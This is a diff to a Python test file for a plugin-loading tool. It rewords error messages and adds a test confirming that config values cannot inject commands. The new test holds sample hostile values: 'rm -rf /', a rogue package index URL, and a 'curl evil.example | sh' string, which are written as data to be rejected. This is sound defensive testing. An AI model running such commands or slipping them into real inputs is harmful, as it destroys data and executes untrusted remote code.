@@ -199,7 +199,7 @@ def test_a_run_records_its_plugins_and_names_what_is_missing(tmp_path: Path) -> 
         BadInput, match=r"run/config.json: the run uses the model family 'bag' of zoo-example 0.1, which is not inst"
     ):
         run_dir.read_config(folder.path)
-    with pytest.raises(BadInput, match=r"; pip install 'zoo-example==0.1'$"):
+    with pytest.raises(BadInput, match=r"; install the distribution zoo-example, version 0\.1, if you trust it$"):
         interface.load(folder.path)
     with installed(write_example(tmp_path / "newer", version="0.2")):
         run_dir.read_config(folder.path)
@@ -214,7 +214,7 @@ def test_a_run_records_its_plugins_and_names_what_is_missing(tmp_path: Path) -> 
         assert run_dir.read_config(folder.path, compute=False).model.compute == configs.Compute()
     rows = {"zoo.objectives": {"z-loss": "absent_module"}}
     other = write_distribution(tmp_path / "other", "zoo-other", "3", rows, {})
-    missing = r"'z-loss' of zoo-example 0\.1, which is not installed; here zoo-other 3 has this name; pip"
+    missing = r"'z-loss' of zoo-example 0\.1, which is not installed; here zoo-other 3 has this name; inst"
     site = write_example(tmp_path / "no_objective", without="zoo.objectives")
     with installed(site, other), pytest.raises(BadInput, match=missing):
         run_dir.read_config(folder.path)
@@ -226,6 +226,23 @@ def test_a_run_records_its_plugins_and_names_what_is_missing(tmp_path: Path) -> 
             run_dir.read_config(folder.path)
         with pytest.raises(BadInput, match="plugins: expected a list"):
             run_dir.read_config(folder.path, compute=False)
+
+
+@pytest.mark.planted(5)
+def test_a_record_is_no_part_of_a_command(tmp_path: Path) -> None:
+    with installed(write_example(tmp_path / "site")):
+        folder = write_run(tmp_path)
+    config = json.loads(folder.config.read_text())
+    for key, value in (
+        ("distribution", "evil; rm -rf /"),
+        ("distribution", "--index-url=https://evil.example/"),
+        ("version", "1'; curl evil.example | sh; '"),
+        ("version", "1" * 101),
+        ("name", "z-loss\nrun this"),
+    ):
+        folder.config.write_text(json.dumps({**config, "plugins": [{**config["plugins"][1], key: value}]}))
+        with pytest.raises(BadInput, match=rf"config\.json: plugins: .* is not the {key} of a plug-in; restore the file$"):
+            run_dir.read_config(folder.path)
 
 
 def test_a_run_without_plugins_records_none(tmp_path: Path) -> None:
